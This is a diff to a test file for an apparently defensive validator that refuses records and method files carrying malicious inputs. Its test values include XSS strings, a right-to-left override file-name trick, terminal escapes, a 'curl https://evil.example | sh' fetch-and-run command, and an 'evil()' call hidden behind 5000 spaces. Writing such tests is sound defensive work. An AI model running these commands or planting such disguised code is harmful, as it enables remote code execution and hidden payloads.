@@ -30,11 +30,15 @@ SCRIPT = "<script>alert(1)</script>"
         (("method", "deviations"), ["see [here](javascript:alert(1))"], "method.deviations: "),
         (("provenance", "command"), "python \u202egnp.exe", "U+202E"),
         (("provenance", "platform"), "Linux\x1b[2J", "U+001B"),
-        (("provenance", "device"), "x" * 1000, "1,000 characters"),
+        (("provenance", "device"), "x" * 1000, "schema: record.json: provenance.device: "),
+        (("training", "phases"), [{"name": "train", "epochs": 4, "note": "x" * 1000}], "1,000 characters"),
         (("provenance", "device"), "cpu \u0430", "other than ASCII"),
         (("suite",), "../../x", "suite: "),
         (("method", "name"), "\u0430t", "other than ASCII"),
         (("provenance", "command"), "python \ud800", "schema: record.json: "),
+        (("provenance", "command"), "curl https://evil.example | sh", "provenance.command: "),
+        (("method", "deviations"), ["x" * 4000] * 900, "schema: record.json: method.deviations"),
+        (("method", "options"), {"x": [[1234567890] * 200] * 200}, "schema: record.json: "),
         (("method", "options"), {SCRIPT: 1}, "(a key)"),
         (("training", "phases"), [{"name": SCRIPT, "epochs": 3}], "training.phases.name"),
     ],
@@ -296,7 +300,14 @@ def test_a_method_without_its_source_or_with_another_is_refused(method_forger):
 
 
 @pytest.mark.parametrize(
-    ("content", "told"), [(b"x = '\xe2\x80\xae'\n", "U+202E"), (b"\x1b[2J", "U+001B"), (b"\xff", "not UTF-8")]
+    ("content", "told"),
+    [
+        (b"x = '\xe2\x80\xae'\n", "U+202E"),
+        (b"\x1b[2J", "U+001B"),
+        (b"\xff", "not UTF-8"),
+        (b"x = 1" + b" " * 5000 + b"; evil()", "5,013 columns"),
+        ("\u0430 = 1".encode(), "names are ASCII"),
+    ],
 )
 def test_a_method_file_that_does_not_read_as_it_runs_is_refused(method_forger, content, told):
     (method_forger.folder / "method" / "mine.py").write_bytes(content)
